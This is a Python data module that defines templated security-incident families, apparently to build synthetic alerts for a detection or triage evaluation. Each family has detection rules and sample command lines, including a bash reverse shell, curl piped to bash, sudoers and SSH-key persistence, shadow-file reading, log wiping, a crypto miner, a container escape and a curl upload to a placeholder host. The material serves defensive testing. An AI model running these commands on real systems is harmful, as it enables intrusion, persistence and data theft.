"""Causes of incidents that look like life, with `{places}` for what changes from one incident to the next.

`SEEN` families are remembered, `UNSEEN` and `HARD` ones never. `incident_mutations` makes incidents of them.
"""

from msgspec import Struct


class Family(Struct, frozen=True):
    """One cause: its rules (a cause may fire more than one), reason and records, with `{places}` that mutate."""

    name: str
    titles: tuple[str, ...]
    technique: str
    because: str
    commands: tuple[str, ...]
    image: str
    question: str


SEEN = (
    Family(
        "reverse shell",
        ("Reverse Shell Through Bash", "Interactive Shell Over TCP"),
        "T1059.004",
        'CommandLine contains "/dev/tcp/" (bash -i >& /dev/tcp/{ip}/{port} 0>&1)',
        (
            "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
            "bash -c 'exec 5<>/dev/tcp/{ip}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done'",
            "/bin/bash -c bash -i >& /dev/tcp/{ip}/{port} 0>&1",
        ),
        "/usr/bin/bash",
        "did anybody open a reverse shell?",
    ),
    Family(
        "download to shell",
        ("Download Piped To A Shell", "Remote Script Executed Directly"),
        "T1105",
        'CommandLine contains "curl" and CommandLine contains "| bash"',
        (
            "curl -fsSL http://{ip}/{name}.sh | bash",
            "sh -c curl -s http://{host}/{name} | bash -s -- --quiet",
            "wget -qO- http://{host}/{name}.sh | sh",
        ),
        "/usr/bin/curl",
        "script downloaded with curl and piped to bash",
    ),
    Family(
        "ssh brute force",
        ("SSH Password Guessing", "Many Failed SSH Logins"),
        "T1110.001",
        'count of message contains "Failed password" by src_ip was {count} within 5m (at least 10)',
        (
            "Failed password for invalid user {user} from {ip} port {port} ssh2",
            "Failed password for root from {ip} port {port} ssh2",
            "Connection closed by authenticating user {user} {ip} port {port} [preauth]",
        ),
        "/usr/sbin/sshd",
        "failed ssh password guessing from one address",
    ),
    Family(
        "new sudoer",
        ("Change Of Sudo Rights", "User Added To Sudoers"),
        "T1548.003",
        'TargetFilename starts with "/etc/sudoers" and CommandLine contains "NOPASSWD"',
        (
            "sh -c echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/{user}",
            "visudo -f /etc/sudoers.d/{user}",
            "usermod -aG sudo {user}",
        ),
        "/usr/sbin/visudo",
        "who got sudo rights without password?",
    ),
    Family(
        "cron persistence",
        ("Persistence Through Cron", "Crontab Replaced"),
        "T1053.003",
        'Image ends with "/crontab" or TargetFilename starts with "/etc/cron.d/"',
        (
            "crontab /tmp/{name}",
            "sh -c (crontab -l; echo '*/5 * * * * /tmp/.{name}/run') | crontab -",
            "tee /etc/cron.d/{name}",
        ),
        "/usr/bin/crontab",
        "new crontab entry for persistence",
    ),
    Family(
        "disk full",
        ("Disk Almost Full", "Filesystem Above Threshold"),
        "",
        "disk.percent was {count}% on /var for 5m (at least 90)",
        ("disk.percent={count} disk.mount=/var", "disk.percent={count} disk.free={port} disk.mount=/var"),
        "",
        "which disk is full?",
    ),
    Family(
        "memory pressure",
        ("Out Of Memory", "Kernel Killed A Process For Memory"),
        "",
        'message contains "Out of memory: Killed process"',
        (
            "Out of memory: Killed process {pid} (java) total-vm:{pid}kB, anon-rss:{port}kB, file-rss:0kB",
            "oom-kill:constraint=CONSTRAINT_NONE,task=java,pid={pid},uid=1000",
        ),
        "",
        "process killed by the oom killer",
    ),
    Family(
        "log wiping",
        ("Clearing Of System Logs", "Shell History Removed"),
        "T1070.002",
        'CommandLine contains "/var/log/" and Image ends with "/shred" or "/truncate" or "/rm"',
        (
            "shred -u /var/log/auth.log.{count}",
            "truncate -s 0 /var/log/auth.log",
            "rm -f /var/log/wtmp /var/log/btmp /home/{user}/.bash_history",
        ),
        "/usr/bin/shred",
        "logs deleted to hide traces",
    ),
    Family(
        "credential dump",
        ("Access To Shadow File", "Password Hashes Read"),
        "T1003.008",
        'CommandLine contains "/etc/shadow" and not User is "root"',
        ("cat /etc/shadow", "cp /etc/shadow /tmp/{name}", "unshadow /etc/passwd /etc/shadow"),
        "/usr/bin/cat",
        "somebody read the password hashes in shadow",
    ),
    Family(
        "crypto miner",
        ("Crypto Mining Software Started", "Connection To A Mining Pool"),
        "T1496",
        'CommandLine contains "stratum+tcp://" or CommandLine contains "--donate-level"',
        (
            "/tmp/{name} -o stratum+tcp://{host}:{port} -u {hex} -p x --donate-level 1",
            "/var/tmp/.{name}/xmrig --url stratum+tcp://{ip}:{port} --cpu-priority 5 --donate-level 0",
        ),
        "/tmp/xmrig",
        "crypto miner connecting to a stratum pool",
    ),
    Family(
        "ssh key planted",
        ("SSH Authorized Key Added", "Change Of authorized_keys"),
        "T1098.004",
        'TargetFilename ends with "/.ssh/authorized_keys"',
        (
            "sh -c echo ssh-ed25519 {blob} {user}@{name} >> /home/{user}/.ssh/authorized_keys",
            "tee -a /home/{user}/.ssh/authorized_keys",
        ),
        "/usr/bin/tee",
        "ssh key added to authorized_keys",
    ),
    Family(
        "kernel module",
        ("Kernel Module Loaded By Hand", "Insertion Of A Kernel Module"),
        "T1547.006",
        'Image ends with "/insmod" or Image ends with "/modprobe"',
        ("insmod /tmp/{name}.ko", "modprobe -f {name}", "kmod insmod /dev/shm/{name}.ko"),
        "/usr/sbin/insmod",
        "kernel module inserted",
    ),
)

UNSEEN = (
    Family(
        "gpu hot",
        ("GPU Above Safe Temperature",),
        "",
        "gpu.temperature was {count} for 2m (at least 88)",
        ("gpu.temperature={count} gpu.index=0 gpu.power={port}",),
        "",
        "",
    ),
    Family(
        "container escape",
        ("Container Escape Through nsenter",),
        "T1611",
        'Image ends with "/nsenter" and CommandLine contains "--target 1"',
        ("nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh",),
        "/usr/bin/nsenter",
        "",
    ),
    Family(
        "firewall off",
        ("Firewall Disabled",),
        "T1562.004",
        'Image ends with "/ufw" and CommandLine contains "disable"',
        ("ufw --force disable", "systemctl stop ufw.service"),
        "/usr/sbin/ufw",
        "",
    ),
    Family(
        "data staging",
        ("Archive Of A Whole Home Directory",),
        "T1560.001",
        'Image ends with "/tar" and CommandLine contains "/home"',
        ("tar czf /tmp/{name}.tgz /home/{user}/Documents",),
        "/usr/bin/tar",
        "",
    ),
    Family(
        "web shell",
        ("Shell Started By A Web Server",),
        "T1505.003",
        'ParentImage ends with "/nginx" or ParentImage ends with "/php-fpm"',
        ("sh -c id; uname -a; whoami",),
        "/usr/bin/dash",
        "",
    ),
    Family(
        "setuid",
        ("Setuid Bit Set On A File",),
        "T1548.001",
        'Image ends with "/chmod" and CommandLine contains "u+s"',
        ("chmod u+s /tmp/{name}",),
        "/usr/bin/chmod",
        "",
    ),
)

HARD = (
    Family(
        "login from a new address",
        ("SSH Login From A New Address",),
        "T1078",
        'message contains "Accepted publickey" and src_ip is new for user (30d)',
        ("Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{blob}",),
        "/usr/sbin/sshd",
        "",
    ),
    Family(
        "upload",
        ("File Uploaded With curl",),
        "T1048",
        'Image ends with "/curl" and CommandLine contains "-T"',
        ("curl -T /tmp/{name}.tgz http://{host}/{name}",),
        "/usr/bin/curl",
        "",
    ),
    Family(
        "sudo denied",
        ("Command Refused By sudo",),
        "T1548.003",
        'message contains "user NOT in sudoers"',
        ("{user} : user NOT in sudoers ; TTY=pts/{pid} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/less",),
        "/usr/bin/sudo",
        "",
    ),
    Family(
        "swap full",
        ("Swap Almost Full",),
        "",
        "swap.percent was {count}% for 5m (at least 90)",
        ("swap.percent={count} swap.free={port}",),
        "",
        "",
    ),
)
"""Causes that share a program or words with a seen one, and are another: what a too low threshold lets through."""
